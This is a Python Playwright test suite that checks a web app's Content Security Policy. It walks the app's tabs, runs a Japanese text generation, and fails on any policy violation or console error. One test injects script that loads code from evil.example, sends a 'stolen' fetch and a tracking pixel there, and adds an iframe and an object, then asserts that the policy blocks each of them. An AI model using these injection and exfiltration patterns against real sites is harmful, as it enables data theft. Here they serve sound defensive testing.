"""The security headers in a real browser: the page breaks no rule of its policy, and what is from elsewhere does not run."""

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.support.quiet import count_calls, press_open, quiet

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});
"""


@pytest.fixture
def walk(browser: Any, public_url: str) -> Iterator[Callable[[str], Any]]:
    """`walk("en")` → the page as a visitor opens it. After the test: each violation and each error of the console fails it."""
    pages, found = [], []

    def open_page(lang: str) -> Any:
        page = browser.new_page(locale=lang, viewport={"width": 1280, "height": 900})
        page.set_default_timeout(60_000)
        page.add_init_script(WATCH)
        page.on("console", lambda message: message.type == "error" and found.append(message.text))
        page.on("pageerror", lambda error: found.append(str(error)))
        page.on(
            "response",
            lambda answer: (
                answer.status >= 400 and found.append(f"{answer.status} {answer.url} {str(answer.request.post_data)[:300]}")
            ),
        )
        count_calls(page)
        pages.append(page)
        page.goto(public_url)
        page.locator(".status.ready").wait_for()
        return page

    yield open_page
    for page in pages:
        found += page.evaluate("window.violations")
        page.close()
    assert found == []


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_walking_through_all_tabs_and_sections_breaks_no_rule(walk: Callable[[str], Any], lang: str) -> None:
    page = walk(lang)
    opened = 0
    for tab in page.locator("#tabs > .tab-wrapper").first.get_by_role("tab").all():
        press_open(tab)
        sections = page.locator(".lab:visible > .tab-wrapper").get_by_role("tab")
        for number in range(sections.count()):
            press_open(sections.nth(number))
            quiet(page)
            opened += 1
        folded = page.locator("button.label-wrap:visible:not(.open)")
        while folded.count():
            press_open(folded.first)
    quiet(page)
    assert opened >= 12


def test_a_generation_with_its_views_breaks_no_rule(walk: Callable[[str], Any]) -> None:
    page = walk("en")
    page.locator("#generate-text textarea").fill("猫が")
    page.locator("#generate-go").click()
    expect(page.locator("#generate-stats")).to_contain_text("tokens")
    press_open(page.locator("#tabs > .tab-wrapper").first.get_by_role("tab").nth(1))
    page.locator("#tokenize-text .token-editor-field").fill("慶應大学")
    expect(page.locator("#tokenize-text .token-editor-piece").first).to_be_visible()
    quiet(page)


def test_what_an_injected_script_would_need_is_refused(browser: Any, public_url: str) -> None:
    page = browser.new_page()
    page.add_init_script(WATCH)
    page.goto(public_url)
    page.locator(".status.ready").wait_for()
    page.evaluate(
        """async () => {
          const script = document.createElement("script");
          script.src = "https://evil.example/x.js";
          document.head.append(script);
          await fetch("https://evil.example/?stolen").catch(() => {});
          new Image().src = "https://evil.example/?pixel";
          const frame = document.createElement("iframe");
          frame.src = "https://evil.example/";
          document.body.append(frame);
          document.body.insertAdjacentHTML("beforeend", '<object data="https://evil.example/x.swf"></object>');
          await new Promise((settled) => setTimeout(settled, 500));
        }"""
    )
    directives = {violation.split()[0] for violation in page.evaluate("window.violations")}
    assert {"script-src-elem", "connect-src", "img-src", "frame-src", "object-src"} <= directives
    page.close()
